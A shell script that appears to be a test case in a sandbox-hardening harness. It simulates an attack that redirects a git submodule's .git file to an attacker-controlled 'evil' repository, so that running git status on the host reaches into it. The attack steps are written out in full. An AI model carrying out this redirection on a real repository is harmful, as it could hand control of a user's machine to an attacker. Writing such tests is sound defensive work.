#!/bin/sh
# Points a submodule at another repository.
# Matters: git status of the host enters submodules.
# Held by: the .git file of a submodule is guarded.
# judge: host
# harm: owned
. "$HOSTILE_STAGE/workspace/attack/hostile.sh"
evil_repository evil
cp -r .git/modules/sub/objects .git/modules/sub/refs evil/
printf '\tworktree = %s\n' "$PWD/sub" >>evil/config
rm -f sub/.git
echo "gitdir: $PWD/evil" >sub/.git
